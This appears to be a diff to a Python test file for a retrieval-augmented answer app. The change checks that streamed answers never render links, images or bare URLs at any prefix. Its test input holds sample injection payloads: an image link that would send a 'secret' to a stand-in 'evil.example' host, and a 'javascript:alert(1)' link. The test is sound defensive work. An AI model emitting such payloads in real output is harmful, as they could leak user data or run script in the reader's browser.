@@ -4,6 +4,7 @@ rag.chunking.preview): what they produce is what the pages show or hand to the u
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import subprocess
 from http.server import BaseHTTPRequestHandler
@@ -14,6 +15,7 @@ import pytest
 from rag.chunking.preview import preview_chunks, preview_json
 from rag.documents import split_items
 from rag.sources.uploads import PASTED_URL, documents_from_uploads, pasted_document
+from rag.answer.citations import URL_PATTERN
 from ui.present import answer as answer_display
 from ui.present import evaluation
 from ui.present.charts import calibration_chart, score_chart
@@ -103,12 +105,15 @@ def _passage(n, score, url="kerberos.md", title="Kerberos", section="Erreurs", t
     return SimpleNamespace(n=n, score=score, url=url, title=title, section=section, text=text, rrf_score=None)
 
 
-def test_stream_safe_pieces_never_form_a_link_or_image_across_pieces():
-    pieces = ["Voir ![x", "](https://evil.example/?q=secret) et [ici](java", "script:alert(1)) \\", "[1]"]
-    streamed = "".join(answer_display.stream_safe_pieces(pieces))
-    assert "](" not in streamed.replace("\\](", "")
-    # Every bracket reaches the reader escaped, so the Markdown shows them as typed.
-    assert streamed.count("\\[") == pieces[0].count("[") + pieces[1].count("[") + 1
+def test_a_streamed_answer_never_shows_a_link_or_image_at_any_moment():
+    # The ask page re-renders the text received so far after each piece: every prefix must be inert.
+    text = "Voir ![x](https://evil.example/?q=secret) et [ici](javascript:alert(1)) www.evil.example [1]"
+    for end in range(1, len(text) + 1):
+        shown = answer_display.answer_text_markdown(text[:end])
+        prose = re.sub(r"(`+).*?\1", "", shown, flags=re.DOTALL)
+        # No link or image (a destination with balanced parentheses, closed), even half-received.
+        assert not re.search(r"\]\((?:[^()\s]|\([^()\s]*\))*\)", prose), text[:end]
+        assert not URL_PATTERN.search(prose), text[:end]  # nor an address GFM would link by itself
 
 
 def test_sources_link_only_http_urls_and_show_paths_as_text():
